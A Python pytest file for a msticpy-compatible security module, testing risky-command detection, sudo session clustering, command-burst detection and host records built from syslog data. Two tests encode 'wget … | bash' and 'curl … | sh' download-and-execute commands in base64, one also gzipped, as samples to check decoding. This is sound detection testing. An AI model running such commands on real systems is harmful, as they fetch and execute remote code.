"""msticpy-compatible batch API: cmd_line and syslog_utils, with the reference's test expectations."""

from __future__ import annotations

import base64
import gzip
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pandas as pd
import polars as pl
import pytest

from processors.cmd_line import RiskyCommands, base64_layers, cmd_speed, risky_cmd_line
from processors.entities import Host
from processors.errors import MsticpyException
from processors.syslog_utils import (
    cluster_syslog_logons_df,
    convert_to_ip_entities,
    create_host_record,
    risky_sudo_sessions,
)


class TestRiskyCmdLine:
    def test_sudo_data_exact(self, msticpy_testdata: Path) -> None:
        """sudo_data.csv gives exactly msticpy's {'2019-07-05T18:19:52.873Z': '/bin/bash'}."""
        out = risky_cmd_line(pd.read_csv(msticpy_testdata / "sudo_data.csv"), log_type="Syslog")
        assert isinstance(out, dict) and dict(out) == {"2019-07-05T18:19:52.873Z": "/bin/bash"}
        assert out["2019-07-05T18:19:52.873Z"] == "/bin/bash"
        assert out.matches["RuleId"].to_list() == ["syslog-005"]

    def test_missing_field(self, msticpy_testdata: Path) -> None:
        """A missing cmd_field, or a log type absent from the rules, raises MsticpyException."""
        frame = pl.read_csv(msticpy_testdata / "sudo_data.csv")
        with pytest.raises(MsticpyException, match="does not contain the Test field"):
            risky_cmd_line(frame, log_type="Syslog", cmd_field="Test")
        with pytest.raises(MsticpyException):
            risky_cmd_line(frame, log_type="Windows")

    def test_custom_rules_keep_colliding_matches__reference_says_31(self, msticpy_testdata: Path) -> None:
        """syslog_data + risky_stuff_custom.json: 32 times, 66 rows (msticpy: 31, a later row hid 15:16 matches)."""
        out = risky_cmd_line(
            pd.read_csv(msticpy_testdata / "syslog_data.csv"),
            log_type="Syslog",
            detection_rules=str(msticpy_testdata / "risky_stuff_custom.json"),
            cmd_field="SyslogMessage",
        )
        assert len(out) == 32
        assert isinstance(out.matches, pd.DataFrame)  # pandas in, pandas out
        assert len(out.matches) == 66
        assert "7/8/2019 15:16" in out and "7/8/2019 15:16" in out.collisions

    def test_decoded_base64_is_used__reference_ignores_it(self) -> None:
        """A base64-encoded 'curl | sh' matches through its decoded text (msticpy decodes and throws it away)."""
        payload = base64.b64encode(b"wget http://198.51.100.9/a -O- | bash").decode()
        frame = pl.DataFrame({"TimeGenerated": ["t1", "t2"], "Command": [f"echo {payload} | base64 -d > x", "ls"]})
        out = risky_cmd_line(frame, log_type="Syslog")
        assert dict(out) == {"t1": f"echo {payload} | base64 -d > x"}
        assert out.matches["MatchedOn"].to_list() == ["decoded[0]"]
        assert base64_layers(payload) == ["wget http://198.51.100.9/a -O- | bash"]

    def test_gzipped_base64_is_decoded(self) -> None:
        """base64 of a gzip stream is decompressed by the shared unpacker (the old local decoder missed it)."""
        payload = base64.b64encode(gzip.compress(b"curl http://198.51.100.9/x | sh")).decode()
        assert base64_layers(f"echo {payload} | base64 -d | gunzip | sh") == ["curl http://198.51.100.9/x | sh"]
        assert base64_layers("sha256sum 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08") == []

    def test_input_not_mutated(self) -> None:
        """Empty strings are skipped without rewriting the caller's frame (msticpy mutates it)."""
        frame = pd.DataFrame({"TimeGenerated": ["a", "b"], "Command": ["", "/bin/bash"]})
        assert risky_cmd_line(frame, log_type="Syslog") == {"b": "/bin/bash"}
        assert frame["Command"].tolist() == ["", "/bin/bash"]


class TestCmdSpeed:
    def test_sorted_input__reference_hit_was_a_negative_delta(self, msticpy_testdata: Path) -> None:
        """sudo_data_speed.csv: msticpy's hit was a -5 day delta; sorted, the burst is 6 commands in 2 s."""
        frame = pd.read_csv(msticpy_testdata / "sudo_data_speed.csv", parse_dates=["TimeGenerated"])
        assert cmd_speed(frame, cmd_field="Command") == []
        (hit,) = cmd_speed(frame, cmd_field="Command", events=5)
        ((index, (rows, delta)),) = hit.items()
        assert isinstance(hit, dict) and index == 0
        assert isinstance(rows, pd.DataFrame)  # pandas in, pandas out
        assert delta == timedelta(seconds=2) and len(rows) == 6
        assert rows["Command"].iloc[-1] == "/bin/bash"

    def test_string_times_are_parsed_and_bad_input_raises(self, msticpy_testdata: Path) -> None:
        """ISO strings are read as times; a missing field or non-time TimeGenerated raises MsticpyException."""
        frame = pl.read_csv(msticpy_testdata / "sudo_data_speed.csv")
        assert len(cmd_speed(frame, cmd_field="Command", events=5)) == 1
        with pytest.raises(MsticpyException):
            cmd_speed(frame, cmd_field="Test")
        with pytest.raises(MsticpyException, match="datetime"):
            cmd_speed(pl.DataFrame({"TimeGenerated": ["nope"], "Command": ["x"]}), cmd_field="Command")


def _rows(sessions: pd.DataFrame) -> list[tuple[Any, ...]]:
    """``(User, Start, End)`` of a pandas sessions frame."""
    assert isinstance(sessions, pd.DataFrame)
    return list(sessions[["User", "Start", "End"]].itertuples(index=False, name=None))


class TestSessions:
    def test_sudo_events(self, msticpy_testdata: Path) -> None:
        """sudo_events.csv → one session, peteb 15:13:26–15:13:26."""
        out = cluster_syslog_logons_df(pd.read_csv(msticpy_testdata / "sudo_events.csv"))
        assert _rows(out) == [("peteb", datetime(2019, 7, 10, 15, 13, 26), datetime(2019, 7, 10, 15, 13, 26))]

    def test_sudo_session_test_and_risky_sessions(self, msticpy_testdata: Path) -> None:
        """sudo_session_test.csv: msticpy's five sessions, its risky command, its burst and its two risky sessions."""
        events = pd.read_csv(msticpy_testdata / "sudo_session_test.csv", parse_dates=["TimeGenerated"])
        risky = risky_cmd_line(events=events, log_type="Syslog")
        assert risky == {pd.Timestamp("2019-07-15 02:47:40"): "/bin/bash"}
        speed = cmd_speed(cmd_events=events, time=60, events=2, cmd_field="Command")
        assert [next(iter(hit)) for hit in speed] == [2]
        sessions = cluster_syslog_logons_df(logon_events=events)
        day = datetime(2019, 7, 15)
        spans = [
            ("02:44:44", "02:44:57"),
            ("02:45:53", "02:46:00"),
            ("02:47:12", "02:47:12"),
            ("02:47:26", "02:47:31"),
            ("02:47:40", "02:48:00"),
        ]
        expected = [
            (
                "peteb",
                day.replace(hour=2, minute=int(a[3:5]), second=int(a[6:])),
                day.replace(hour=2, minute=int(b[3:5]), second=int(b[6:])),
            )
            for a, b in spans
        ]
        assert _rows(sessions) == expected
        out = risky_sudo_sessions(risky_actions=risky, sudo_sessions=sessions, suspicious_actions=speed)
        assert out == {4: "/bin/bash", 3: "Suspicious event pattern"}
        with pytest.raises(MsticpyException):
            risky_sudo_sessions(sudo_sessions=sessions)

    def test_overlapping_sessions__reference_loses_them(self) -> None:
        """Interleaved sessions pair by pid: two sessions; msticpy keeps one (alice 10:00–10:10, bob's end)."""
        frame = pl.DataFrame(
            {
                "TimeGenerated": [
                    "2019-07-10T10:00:00Z",
                    "2019-07-10T10:05:00Z",
                    "2019-07-10T10:10:00Z",
                    "2019-07-10T10:30:00Z",
                ],
                "Computer": ["h"] * 4,
                "ProcessName": ["sshd"] * 4,
                "ProcessID": [1, 2, 2, 1],
                "SyslogMessage": [
                    "pam_unix(sshd:session): session opened for user alice by (uid=0)",
                    "pam_unix(sshd:session): session opened for user bob by (uid=0)",
                    "pam_unix(sshd:session): session closed for user bob",
                    "pam_unix(sshd:session): session closed for user alice",
                ],
            }
        )
        rows = cluster_syslog_logons_df(frame).select("User", "Start", "End").rows()
        assert [(u, s.strftime("%H:%M"), e.strftime("%H:%M")) for u, s, e in rows] == [
            ("alice", "10:00", "10:30"),
            ("bob", "10:05", "10:10"),
        ]

    def test_no_sessions(self) -> None:
        """An empty frame or one without any pairable session raises MsticpyException."""
        with pytest.raises(MsticpyException, match="no logon sessions"):
            cluster_syslog_logons_df(pd.DataFrame({"TimeGenerated": [], "SyslogMessage": []}))
        with pytest.raises(MsticpyException):
            cluster_syslog_logons_df(pl.DataFrame({"TimeGenerated": ["2019-07-10T10:00:00Z"], "SyslogMessage": ["hi"]}))


class TestHostRecord:
    def test_create_host_record(self, msticpy_testdata: Path) -> None:
        """syslog_data + host_hb + az_net give a Linux Host with OS, address, location and Azure ips."""
        host = create_host_record(
            pd.read_csv(msticpy_testdata / "syslog_data.csv"),
            pd.read_csv(msticpy_testdata / "host_hb.csv"),
            pd.read_csv(msticpy_testdata / "az_net.csv"),
        )
        assert isinstance(host, Host) and host.OSType == "Linux"
        assert host.HostName == "squid-uk-02" and host.OSName == "Ubuntu" and host.OSVMajorersion == "18"
        assert host.OmsSolutions == ["security", "networkMonitoring", "securityCenterFree", "securityInsights"]
        assert host.IPAddress is not None and host.IPAddress.Address == "51.140.160.102"
        assert host.IPAddress.Location is not None and host.IPAddress.Location.CountryName == "United Kingdom"
        assert [ip.Address for ip in host.private_ips] == ["10.0.6.5"]
        assert [ip.Address for ip in host.public_ips] == ["51.140.160.102"]

    def test_convert_to_ip_entities(self) -> None:
        """Comma/space separated strings and frame columns become IpAddress entities; no input raises."""
        assert [e.Address for e in convert_to_ip_entities("10.0.0.1, 10.0.0.2 10.0.0.1")] == ["10.0.0.1", "10.0.0.2"]
        assert [e.Address for e in convert_to_ip_entities(data=pl.DataFrame({"ip": ["1.1.1.1"]}), ip_col="ip")] == [
            "1.1.1.1"
        ]
        with pytest.raises(MsticpyException):
            convert_to_ip_entities()


@pytest.mark.reference
class TestAgainstMsticpy:
    def test_same_answers_where_msticpy_is_right(self, msticpy_testdata: Path) -> None:
        """On sudo_data.csv and sudo_session_test.csv, secstream and msticpy agree."""
        cl = pytest.importorskip("msticpy.transform.cmd_line")
        su = pytest.importorskip("msticpy.analysis.syslog_utils")
        data = pd.read_csv(msticpy_testdata / "sudo_data.csv")
        assert dict(risky_cmd_line(data, log_type="Syslog")) == cl.risky_cmd_line(data.copy(), log_type="Syslog")
        events = pd.read_csv(msticpy_testdata / "sudo_session_test.csv", parse_dates=["TimeGenerated"])
        ref = su.cluster_syslog_logons_df(events.copy())
        ours = cluster_syslog_logons_df(events)
        assert _rows(ours) == _rows(ref)
        assert isinstance(risky_cmd_line(events, log_type="Syslog"), RiskyCommands)
